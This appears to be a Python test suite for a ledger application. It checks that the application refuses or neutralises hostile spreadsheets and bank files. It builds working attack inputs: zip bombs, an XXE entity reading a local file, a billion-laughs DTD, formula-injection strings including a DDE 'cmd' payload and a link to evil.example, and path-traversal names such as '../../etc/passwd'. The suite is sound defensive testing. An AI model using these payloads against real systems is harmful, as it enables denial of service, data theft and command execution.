"""Untrusted workbooks and bank files: each attack refused or neutralised with a clear message."""

from __future__ import annotations

import os
import re
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from custledger import ops
from custledger.core.errors import LedgerError
from custledger.io.bankfile import read_bank_file
from custledger.io.filebook import FileBook
from custledger.io.reader import read_book, sheet_part
from custledger.io.template import build_ledger

ROOT = Path(__file__).resolve().parents[1]
ENV = {**os.environ, "PYTHONPATH": str(ROOT / "pylib"), "CUSTLEDGER_LANG": "en"}


def small_ledger(path: Path, customers=None, invoices=None) -> Path:
    build_ledger(path, "zh", data={
        "customers": customers if customers is not None else pd.DataFrame(
            {"customer_id": ["C1"], "name": ["甲公司"], "bank_account": ["6222021234561234"]}),
        "invoices": invoices if invoices is not None else pd.DataFrame(
            {"doc_no": ["I1"], "date": ["2026-10-01"], "customer_id": ["C1"], "amount": [1000.0]})},
        settings={"as_of": "2026-10-31"})
    return path


def rewrite(src: Path, dst: Path, change: dict, extra: dict | None = None) -> Path:
    """dst = src with some parts replaced (name -> callable(old bytes) -> new bytes) or added."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename in change:
                data = change[info.filename](data)
            zout.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def cli(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "custledger.cli", *map(str, args)], env=ENV, cwd=cwd,
                          capture_output=True, text=True, timeout=120)


def refused_in_one_line(res, *words):
    err = res.stderr.strip()
    assert res.returncode == 2, (res.returncode, err)
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    for w in words:
        assert w in err, err


@pytest.fixture
def ledger(tmp_path):
    return small_ledger(tmp_path / "ledger.xlsx")


# ---- zip bombs -------------------------------------------------------------------------------

def test_zip_bomb_by_ratio_refused_before_reading(ledger, tmp_path):
    bomb = rewrite(ledger, tmp_path / "bomb.xlsx", {}, {"xl/media/zeros.xml": b"\0" * (40 << 20)})
    assert bomb.stat().st_size < 1 << 20  # 40 MB of zeros in well under 1 MB: > 1000:1
    with pytest.raises(LedgerError) as err:
        FileBook(bomb).read()
    assert err.value.code == "file_unsafe" and "expands" in err.value.message("en")
    zh = err.value.message("zh")   # said in Chinese, not with the zip reader's English inside
    assert "压缩炸弹" in zh and "xl/media/zeros.xml" in zh and not re.search(r"expands|limit|entry", zh), zh
    refused_in_one_line(cli("validate", bomb), "refused as unsafe", "expands")
    problems = read_bank_file(bomb).problems
    assert problems and "unsafe" in problems[0]["problem"]


def test_zip_bomb_declaring_gigabytes_refused(ledger, tmp_path):
    bomb = rewrite(ledger, tmp_path / "big.xlsx", {}, {"xl/media/big.xml": b"<a/>" * 1000})
    raw = bytearray(bomb.read_bytes())
    # declare 3 GB uncompressed for that part in the central directory
    at = raw.rfind(b"xl/media/big.xml") - 46
    assert raw[at:at + 4] == b"PK\x01\x02"
    raw[at + 24:at + 28] = struct.pack("<I", 3 << 30)
    bomb.write_bytes(bytes(raw))
    with pytest.raises(LedgerError) as err:
        read_book(bomb)
    assert err.value.code == "file_unsafe"
    zh = err.value.message("zh")
    assert "解压后" in zh and not re.search(r"expands|uncompressed|declares|limit", zh), zh


# ---- XML entities ----------------------------------------------------------------------------

def test_xxe_in_shared_strings_refused_and_no_file_read(tmp_path):
    src = small_ledger(tmp_path / "src.xlsx")
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-42", encoding="utf-8")

    def inject(data: bytes) -> bytes:
        head = f'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'.encode()
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        return head + body.replace(b"<t>", b"<t>&xxe;", 1)

    with zipfile.ZipFile(src) as zf:
        has_sst = "xl/sharedStrings.xml" in zf.namelist()
    part = "xl/sharedStrings.xml" if has_sst else "xl/workbook.xml"
    evil = rewrite(src, tmp_path / "xxe.xlsx", {part: inject})
    with pytest.raises(LedgerError) as err:
        FileBook(evil).read()
    assert err.value.code == "file_unsafe" and "DTD" in err.value.message("en")
    res = cli("validate", evil)
    refused_in_one_line(res, "DTD")
    assert "TOP-SECRET" not in res.stdout + res.stderr
    assert "TOP-SECRET" not in str(read_bank_file(evil).problems)


def test_billion_laughs_refused(ledger, tmp_path):
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))

    def inject(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        return f'<?xml version="1.0"?>\n<!DOCTYPE workbook [{laughs}]>'.encode() + body

    evil = rewrite(ledger, tmp_path / "laughs.xlsx", {"xl/workbook.xml": inject})
    refused_in_one_line(cli("validate", evil), "DTD")


# ---- absurd dimensions -----------------------------------------------------------------------

def _sheet_edit(ledger: Path, dst: Path, fn) -> Path:
    part = sheet_part(ledger, "客户档案")
    return rewrite(ledger, dst, {part: fn})


def _rss_run(path: Path):
    """validate in a child limited to 2 GB of address space; -> (exit code, stderr, max RSS MB)."""
    code = (
        "import resource, sys, subprocess\n"
        "resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))\n"
        "from custledger.cli import app\n"
        "try:\n    app([\"validate\", sys.argv[1]])\nexcept SystemExit as e:\n    rc = e.code\n"
        "print('RSS', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, file=sys.stderr)\n"
        "sys.exit(rc)\n")
    res = subprocess.run([sys.executable, "-c", code, str(path)], env=ENV, capture_output=True, text=True, timeout=120)
    lines = res.stderr.strip().splitlines()
    rss = int(lines[-1].split()[1]) if lines and lines[-1].startswith("RSS") else None
    return res.returncode, "\n".join(lines[:-1]), rss


def test_cell_at_xfd1048576_refused_without_a_huge_allocation(ledger, tmp_path):
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    evil = _sheet_edit(ledger, tmp_path / "far.xlsx", lambda d: d.replace(b"</sheetData>", far, 1))
    code, err, rss = _rss_run(evil)
    assert code == 2, err  # without the guard calamine asks for 550 GB and the process aborts
    assert "spans A1:XFD1048576" in err and len(err.splitlines()) == 1
    assert rss is not None and rss < 500, rss


def test_far_cell_without_references_or_prefixed_is_measured_too(ledger, tmp_path):
    sneaky = (b'<row r="1048576">' + b'<c t="inlineStr"><is><t>x</t></is></c>' * 3000 + b"</row></sheetData>")
    evil = _sheet_edit(ledger, tmp_path / "sneaky.xlsx", lambda d: d.replace(b"</sheetData>", sneaky, 1))
    with pytest.raises(LedgerError) as err:
        read_book(evil)
    assert err.value.code == "sheet_too_large"


def test_absurd_dimension_ref_alone_is_harmless(ledger, tmp_path):
    import re

    evil = _sheet_edit(ledger, tmp_path / "dim.xlsx",
                       lambda d: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', d))
    code, err, rss = _rss_run(evil)
    assert code in (0, 1), err
    assert rss is not None and rss < 500, rss


def test_styled_empty_cell_far_away_does_not_refuse_a_real_ledger(ledger, tmp_path):
    far = b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
    ok = _sheet_edit(ledger, tmp_path / "styled.xlsx", lambda d: d.replace(b"</sheetData>", far, 1))
    book = read_book(ok)
    assert "客户档案" in book.sheets


# ---- formula injection -----------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?x","click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def test_formula_text_from_a_bank_file_stays_text(ledger, tmp_path):
    try:
        from custledger.io.xlsxpatch import RowAppend  # noqa: F401
    except ImportError:
        pytest.skip("bank import appends to Receipts (io/xlsxpatch RowAppend) not landed yet")
    lines = ["交易日期,对方户名,对方账号,收入金额,摘要,交易流水号"]
    for i, text in enumerate(INJECTIONS):
        memo = '"' + text.replace('"', '""') + '"'
        lines.append(f"2026-10-{5 + i:02d},甲公司,6222021234561234,{100 + i}.00,{memo},R{i}")
    lines.append("2026-10-20,=1+1,,10.00,x,R9")
    bank = tmp_path / "bank.csv"
    bank.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = ops.run(FileBook(ledger), ["reconcile"], bank=bank)
    assert report.summary["receipts_imported"] == len(INJECTIONS)
    wb = openpyxl.load_workbook(ledger)
    for sheet in ("回款记录", "银行流水匹配"):
        cells = {c.value: c for row in wb[sheet].iter_rows() for c in row if isinstance(c.value, str)}
        for text in INJECTIONS:
            hits = [c for v, c in cells.items() if text in v]
            assert hits, (sheet, text)
            assert all(c.data_type == "s" for c in hits), (sheet, text)
    bank_cells = [c for row in wb["银行流水匹配"].iter_rows() for c in row if c.value == "=1+1"]
    assert bank_cells and bank_cells[0].data_type == "s"


# ---- path traversal --------------------------------------------------------------------------

def test_statement_files_stay_inside_the_chosen_folder(tmp_path, monkeypatch):
    names = ["../../etc/passwd", "CON", "a/b\\c:d*?", "..", "/abs/olute"]
    ids = [f"C{i}" for i in range(len(names))]
    p = small_ledger(tmp_path / "ledger.xlsx",
                     customers=pd.DataFrame({"customer_id": ids, "name": names}),
                     invoices=pd.DataFrame({"doc_no": [f"I{i}" for i in range(len(ids))], "date": ["2026-10-01"] * len(ids),
                                            "customer_id": ids, "amount": [100.0] * len(ids)}))
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    before = {q for q in tmp_path.rglob("*")}
    report = ops.run(FileBook(p), ["reconcile", "statements"], month="2026-10", dir=Path("../../x"), processes=1)
    chosen = (tmp_path / "x").resolve()
    assert len(report.files) == len(names)
    for f in report.files:
        assert Path(f).resolve().parent == chosen, f
    new = {q for q in tmp_path.rglob("*")} - before
    outside = [q for q in new if chosen not in q.resolve().parents and q.resolve() != chosen
               and not q.name.startswith(("ledger", ".ledger"))]
    assert outside == []
    from custledger.io.names import safe_name

    for f in report.files:  # each name is one safe component (no separators, reserved names, ..)
        assert safe_name(Path(f).name) == Path(f).name and ".." not in Path(f).name


# ---- undecodable and hostile bank files ------------------------------------------------------

def test_undecodable_csv_gives_a_clear_message(ledger, tmp_path):
    bad = tmp_path / "bank.csv"
    bad.write_bytes(b"\xff\x00\x81\x02" * 300)
    problems = read_bank_file(bad).problems
    assert problems[0]["severity"] == "error" and "cannot decode" in problems[0]["problem"]
    refused_in_one_line(cli("reconcile", ledger, "--bank", bad), "cannot decode")


def test_bank_xlsx_with_a_far_cell_is_refused_not_crashing(ledger, tmp_path):
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    evil = _sheet_edit(ledger, tmp_path / "bank.xlsx", lambda d: d.replace(b"</sheetData>", far, 1))
    problems = read_bank_file(evil).problems
    assert problems and problems[0]["severity"] == "error" and "spans" in problems[0]["problem"]


def test_csv_with_an_oversized_field_or_stray_cr_is_a_problem_not_a_crash(tmp_path):
    p = tmp_path / "bank.csv"
    for body in (b'2026-10-01,"' + b"x" * 200_000 + b"\n", b"2026-10-01,a\rb,1\n"):
        p.write_bytes("交易日期,对方户名,收入金额\n".encode() + body)
        problems = read_bank_file(p).problems  # found by test_fuzz_readers: csv.Error escaped
        assert problems[0]["severity"] == "error" and "not readable as CSV" in problems[0]["problem"]
